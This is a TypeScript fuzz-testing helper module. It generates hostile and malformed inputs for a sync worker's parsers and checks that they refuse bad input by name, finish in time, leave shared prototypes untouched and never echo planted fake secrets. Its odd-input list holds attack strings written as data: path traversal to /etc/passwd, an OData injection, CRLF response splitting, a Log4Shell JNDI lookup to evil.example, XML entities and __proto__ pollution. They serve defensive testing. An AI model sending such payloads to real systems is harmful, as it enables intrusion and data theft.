/**
 * What every fuzz test uses: one seed, hostile values, ways to spoil a good sample, and the one judgement.
 *
 * A parser of foreign input may take the input or refuse it by name. It may not crash, hang, change the prototypes
 * that everything shares, or repeat secrets and persons in what it says. `FUZZ_SEED` and `FUZZ_RUNS` run it at large.
 */
import fc from 'fast-check';
import { isSyncError } from '../../sync-worker/src/errors';

/** The same every run unless asked otherwise, so that CI never fails by chance. */
export const seed = Number(process.env['FUZZ_SEED'] ?? 20_261_123);
const casesPerProperty = Number(process.env['FUZZ_RUNS'] ?? 60);

/** Of the processor, so that a busy machine fails nothing; a quadratic parser needs many seconds for the long texts below. */
const longestCaseMs = 1_500;
const processorMs = (): number => process.cpuUsage().user / 1_000;

/** Planted in inputs; no error may repeat one. */
export const planted = {
  email: 'fuzz.person@private.example',
  phone: '+49 170 5550 199',
  token: 'eyJhbGciOiJSUzI1NiJ9.eyJmdXp6IjoicGxhbnRlZCJ9.c2lnbmF0dXJlLWZ1eno',
  secret: 'fZ8~Q1planted2secret3of4the5fuzz6tests',
} as const;
const plantedTexts: readonly string[] = Object.values(planted);

const long = 60_000;

/** Texts that have broken parsers before: separators of other layers, shared names, halves, and sheer length. */
export const oddTexts: readonly string[] = [
  '',
  ' ',
  '\0',
  '\ufeff',
  '\ud800',
  'a\udc00b',
  '\u202e\u2066',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'null',
  'NaN',
  'Infinity',
  '-0',
  '1e999999999',
  '1e400',
  '0x10',
  '-5',
  '99999999999',
  '1e20',
  '0001-01-01T00:00:00Z',
  '9999-12-31T23:59:59.9999999+14:00',
  '2026-02-30',
  '+275760-09-13T00:00:00Z',
  '\r\n\r\nHTTP/1.1 200 OK\r\n\r\n{}',
  '\r\n--batch_x--\r\n',
  "'; or 1 eq 1 or name eq '",
  '../../../etc/passwd',
  '..\\..\\web.config',
  'https://evil.example/api/data/v9.2/opportunities',
  '//evil.example/x',
  '%00%0d%0a%E0%A4%A',
  '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>',
  '&amp;amp;amp;amp;amp;amp;lt;',
  '${jndi:ldap://evil.example/x}',
  ...plantedTexts,
  `Bearer ${planted.secret}`,
  `client_secret=${planted.secret}&x=1`,
];

/** Long enough that a parser of quadratic time is seen, short enough that one of linear time does not care. */
export const longTexts: readonly string[] = [
  'a'.repeat(long),
  `${'0'.repeat(long)}1`,
  `0.${'0'.repeat(long)}1`,
  '9'.repeat(long),
  `${' '.repeat(long)}x`,
  `${'a'.repeat(long)} `,
  `${'/'.repeat(long)}x`,
  '\r\n'.repeat(long / 2),
  `${'-'.repeat(long)}x`,
  '&#38;'.repeat(long / 5),
  'a@'.repeat(long / 2),
  '+1 '.repeat(long / 3),
  '{"a":'.repeat(long / 5),
  '['.repeat(long),
];

/** Any character but halves of one. Not fast-check's own `binary`: that makes a table of all million of them each time. */
export const anyCharacter: fc.Arbitrary<string> = fc
  .oneof(fc.nat({ max: 0xd7ff }), fc.integer({ min: 0xe000, max: 0x10ffff }))
  .map((code) => String.fromCodePoint(code));

export const oddText: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...oddTexts) },
  { weight: 1, arbitrary: fc.constantFrom(...longTexts) },
  { weight: 3, arbitrary: fc.string({ unit: anyCharacter, maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ maxLength: 40 }) },
);

export const oddNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(0, -1, 1e308, -1e308, 5e-324, 2 ** 53, 2 ** 53 + 2, 1e21, 1e-7, 0.1 + 0.2, 2_147_483_648),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

/** A tower that a recursive function cannot climb. */
export function tower(depth: number, kind: 'array' | 'object' = 'object'): unknown {
  let value: unknown = 1;
  for (let level = 0; level < depth; level++) value = kind === 'array' ? [value] : { a: value };
  return value;
}

export const oddValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom<unknown>(null, true, false, [], {}, [null], [[]], { value: 1 }, '') },
  { weight: 5, arbitrary: oddText },
  { weight: 3, arbitrary: oddNumber },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 1, arbitrary: fc.constant(0).map(() => Array.from({ length: 2_000 }, () => ({}))) },
);

type Json = Record<string, unknown> | unknown[];

interface Place {
  readonly parent: Json;
  readonly name: string;
}

function places(value: unknown, found: Place[] = []): Place[] {
  if (typeof value !== 'object' || value === null) return found;
  for (const name of Object.keys(value)) {
    found.push({ parent: value as Json, name });
    places((value as Record<string, unknown>)[name], found);
  }
  return found;
}

/** Own member of any name: `__proto__` too, as JSON.parse makes it. */
function put(parent: Json, name: string, value: unknown): void {
  Object.defineProperty(parent, name, { value, enumerable: true, configurable: true, writable: true });
}

const spoilings = ['replace', 'replace', 'replace', 'remove', 'wrap', 'rename', 'add', 'pollute', 'case'] as const;

function spoilOnce(root: unknown, at: number, how: (typeof spoilings)[number], value: unknown): void {
  const all = places(root);
  const place = all[at % Math.max(1, all.length)];
  if (!place) return;
  const { parent, name } = place;
  const before = (parent as Record<string, unknown>)[name];
  const remove = (): unknown => (Array.isArray(parent) ? parent.splice(Number(name), 1) : delete parent[name]);
  if (how === 'replace') put(parent, name, value);
  else if (how === 'remove') remove();
  else if (how === 'wrap') put(parent, name, [before]);
  else if (how === 'pollute') put(parent, '__proto__', { polluted: 1, value: [1], fields: {} });
  else if (how === 'add') put(parent, typeof value === 'string' ? value.slice(0, 50) : 'unknownAddition', value);
  else {
    remove();
    put(parent, how === 'case' ? name.toUpperCase() : `${name}X`, before);
  }
}

/** A good sample with up to four places spoilt. Never changes the sample. */
export function spoilt(sample: unknown): fc.Arbitrary<unknown> {
  const step = fc.tuple(fc.nat({ max: 10_000 }), fc.constantFrom(...spoilings), oddValue);
  return fc.array(step, { minLength: 1, maxLength: 4 }).map((steps) => {
    const copy = JSON.parse(JSON.stringify(sample)) as unknown;
    // A copy each: a value that stands in two places would be spoilt in both.
    for (const [at, how, value] of steps) spoilOnce(copy, at, how, structuredClone(value));
    return copy;
  });
}

/** A good text cut, with a piece repeated, or with something foreign put in. */
export function spoiltText(sample: string): fc.Arbitrary<string> {
  const at = fc.nat({ max: sample.length });
  return fc.oneof(
    at.map((end) => sample.slice(0, end)),
    fc.tuple(at, at).map(([from, to]) => sample.slice(0, Math.max(from, to)) + sample.slice(Math.min(from, to))),
    fc.tuple(at, oddText).map(([from, odd]) => sample.slice(0, from) + odd + sample.slice(from)),
    fc
      .tuple(at, fc.nat({ max: 200 }), oddText)
      .map(([from, length, odd]) => sample.slice(0, from) + odd + sample.slice(from + length)),
    oddText,
  );
}

/** JSON text of a sample: good JSON with wrong content, or no JSON any more. */
export function spoiltJson(sample: unknown): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 4, arbitrary: spoilt(sample).map((value) => JSON.stringify(value)) },
    { weight: 2, arbitrary: spoiltText(JSON.stringify(sample)) },
    {
      weight: 1,
      arbitrary: fc.constantFrom('['.repeat(100_000), `${'['.repeat(50_000)}${']'.repeat(50_000)}`, '\ufeff{}', ''),
    },
    {
      weight: 1,
      arbitrary: fc.constantFrom(2_000, 20_000).map((depth) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`),
    },
  );
}

const prototypes: readonly (readonly [string, object])[] = [
  ['Object', Object.prototype],
  ['Array', Array.prototype],
  ['String', String.prototype],
  ['Function', Function.prototype],
];
const before = new Map(prototypes.map(([name, prototype]) => [name, Reflect.ownKeys(prototype).length]));

/** Throws when a case changed what every object shares. */
export function expectCleanPrototypes(): void {
  for (const [name, prototype] of prototypes) {
    if (Reflect.ownKeys(prototype).length !== before.get(name)) throw new Error(`${name}.prototype was changed`);
  }
}

/** What a part may throw beside our own error; `quotes`: it tells a developer what stands in his own file. */
export type Documented = (error: unknown) => boolean | 'quotes';

/** One case: takes it or refuses it by name, in time, without a trace. Gives what came of it, or undefined when refused. */
export function judged<T>(
  run: () => T,
  documented: Documented = () => false,
  longestMs = longestCaseMs,
): T | undefined {
  const startedAt = processorMs();
  try {
    return run();
  } catch (error) {
    judgeRefusal(error, documented);
    return undefined;
  } finally {
    afterCase(startedAt, longestMs);
  }
}

export async function judgedLater<T>(
  run: () => Promise<T>,
  documented: Documented = () => false,
): Promise<T | undefined> {
  const startedAt = processorMs();
  try {
    return await run();
  } catch (error) {
    judgeRefusal(error, documented);
    return undefined;
  } finally {
    afterCase(startedAt);
  }
}

function judgeRefusal(error: unknown, documented: Documented): void {
  const known = isSyncError(error) || documented(error);
  if (!known) throw new Error('crashed instead of refusing', { cause: error });
  const text =
    error instanceof Error ? `${error.message} ${String((error as { detail?: unknown }).detail ?? '')}` : String(error);
  if (isSyncError(error) && error.detail.trim() === '') throw new Error(`${error.code} does not say where`);
  if (known !== 'quotes') expectSilent(text);
}

/** The text repeats nothing that was planted. */
export function expectSilent(text: string): void {
  const leaked = plantedTexts.find((one) => text.includes(one));
  if (leaked !== undefined) throw new Error(`an error repeats what was planted: ${leaked.slice(0, 12)}`);
}

function afterCase(startedAt: number, longestMs = longestCaseMs): void {
  expectCleanPrototypes();
  const took = processorMs() - startedAt;
  if (took > longestMs) throw new Error(`took ${Math.round(took)} ms`);
}

/** @param share of the usual number of cases, for what is dear */
export function holds<T>(input: fc.Arbitrary<T>, property: (value: T) => void, share = 1): void {
  fc.assert(
    fc.property(input, (value) => property(value)),
    settings(share),
  );
}

export async function holdsLater<T>(
  input: fc.Arbitrary<T>,
  property: (value: T) => Promise<void>,
  share = 1,
): Promise<void> {
  await fc.assert(
    fc.asyncProperty(input, async (value) => property(value)),
    settings(share),
  );
}

function settings(share: number): { seed: number; numRuns: number } {
  return { seed, numRuns: Math.max(3, Math.round(casesPerProperty * share)) };
}
